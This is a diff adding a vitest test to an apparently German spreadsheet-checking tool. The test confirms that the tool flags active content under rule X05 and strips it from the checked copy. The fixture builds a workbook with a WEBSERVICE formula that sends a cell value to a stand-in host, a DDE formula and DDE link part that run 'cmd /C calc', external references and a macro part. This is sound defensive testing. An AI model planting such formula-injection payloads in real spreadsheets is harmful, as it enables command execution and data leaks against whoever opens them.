@@ -10,6 +10,7 @@ import { copyFile, lstat, mkdir, readFile, readdir, symlink, writeFile } from "n
 import { join } from "node:path";
 import { beforeAll, describe, expect, it } from "vitest";
 import { mappeAus, vieleZellen, zipAus } from "../hilfen/zip";
+import { leseZip, zipAusTeilen } from "../../cli/zip-grenzen";
 import { arbeitsordner, lsz, sha256 } from "./hilfen";
 
 let vorlagen: string;
@@ -203,6 +204,77 @@ describe("two inputs, one output name", () => {
     const hinweise = r.stdout.split("\n").filter((z) => z.includes("die geprüfte Kopie heißt"));
     expect(hinweise).toHaveLength(2);
     expect(hinweise[0]).toContain("Kreis (2).geprueft.xlsx");
+  }, 120_000);
+});
+
+describe("no active content passes", () => {
+  it("WEBSERVICE, FILTERXML, a DDE link, an external reference, an external hyperlink, macros and an external link part: each named (X05), none in the checked copy", async () => {
+    const ordner = await arbeitsordner();
+    await abgewandelt(join(ordner, "aktiv-roh.xlsx"), (wb) => {
+      const ws = wb.addWorksheet("Notizen");
+      const f = (formula: string, result: ExcelJS.CellValue) =>
+        ({ formula, result }) as ExcelJS.CellFormulaValue;
+      ws.getCell("A1").value = f('WEBSERVICE("http://example.invalid/?d="&B1)', "ok");
+      ws.getCell("A2").value = f('FILTERXML(A1,"//x")', 3);
+      ws.getCell("A3").value = f("cmd|' /C calc'!A0", 7);
+      ws.getCell("A4").value = f("[1]Tabelle1!A1", 5);
+      ws.getCell("A5").value = f('SUMME(1;2)&"a|b"', "3a|b"); // a '|' inside text is no DDE link
+      ws.getCell("A6").value = { text: "Förderportal", hyperlink: "http://example.invalid/portal" };
+    });
+    // Parts exceljs cannot write, added to the package: macros and a DDE link to another program.
+    const teile = leseZip(await readFile(join(ordner, "aktiv-roh.xlsx")));
+    const text = (name: string, s: string) => ({ name, inhalt: Buffer.from(s) });
+    teile.push(
+      text("xl/vbaProject.bin", 'Attribute VB_Name = "Modul1"'),
+      text(
+        "xl/externalLinks/externalLink1.xml",
+        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
+      ),
+      text(
+        "xl/externalLinks/_rels/externalLink1.xml.rels",
+        '<Relationships><Relationship Id="rId1" Type="x" Target="file:///C:/geheim.xlsx" TargetMode="External"/></Relationships>',
+      ),
+    );
+    await writeFile(join(ordner, "aktiv.xlsx"), zipAusTeilen(teile));
+
+    const r = await lsz(["pruefen", "aktiv.xlsx", "--bericht", "b.json"], ordner);
+    expect(r.stdout).toContain("aktiv.xlsx: Ilm-Kreis");
+    const bericht = JSON.parse(await readFile(join(ordner, "b.json"), "utf8")) as {
+      dateien: { befunde: { regel: string; blatt: string; zelle: string | null; meldung: string }[] }[];
+    };
+    const x05 = bericht.dateien[0]!.befunde.filter((b) => b.regel === "X05");
+    const zellen = x05.filter((b) => b.blatt === "Notizen").map((b) => [b.zelle, b.meldung]);
+    expect(zellen.map(([z]) => z)).toEqual(["A1", "A2", "A3", "A4", "A6"]);
+    expect(zellen[0]![1]).toContain("ruft WEBSERVICE auf");
+    expect(zellen[2]![1]).toContain("DDE-Verknüpfung");
+    expect(zellen[3]![1]).toContain("andere Arbeitsmappe");
+    expect(zellen[4]![1]).toContain("Link nach außen (http://example.invalid/portal)");
+    const mappe = x05.filter((b) => b.zelle === null).map((b) => b.meldung);
+    expect(mappe.some((m) => m.includes("Makros (xl/vbaProject.bin)"))).toBe(true);
+    expect(mappe.some((m) => m.includes("DDE-Verknüpfung (xl/externalLinks/externalLink1.xml)"))).toBe(true);
+    expect(mappe.some((m) => m.includes("verweist nach außen (xl/externalLinks/_rels/"))).toBe(true);
+
+    // The checked copy: stored values instead of the formulas, the link's text, no such parts.
+    const kopie = await readFile(join(ordner, "aktiv.geprueft.xlsx"));
+    const namen = leseZip(kopie).map((t) => t.name);
+    expect(namen.filter((n) => /vbaProject|externalLink/i.test(n))).toEqual([]);
+    // (The Prüfbericht quotes the formulas as text, and its own links say „#Blatt!A1“.)
+    for (const t of leseZip(kopie)) {
+      const xml = t.inhalt.toString("utf8");
+      expect(xml).not.toMatch(/<f>[^<]*(WEBSERVICE|FILTERXML|cmd\||\[1\])/);
+      expect(xml).not.toMatch(/Target="[^#"][^"]*" TargetMode="External"/);
+    }
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(kopie as unknown as ExcelJS.Buffer);
+    const ws = wb.getWorksheet("Notizen")!;
+    expect(["A1", "A2", "A3", "A4", "A6"].map((a) => ws.getCell(a).value)).toEqual([
+      "ok",
+      3,
+      7,
+      5,
+      "Förderportal",
+    ]);
+    expect(ws.getCell("A5").formula).toBe('SUMME(1;2)&"a|b"');
   }, 120_000);
 });
 
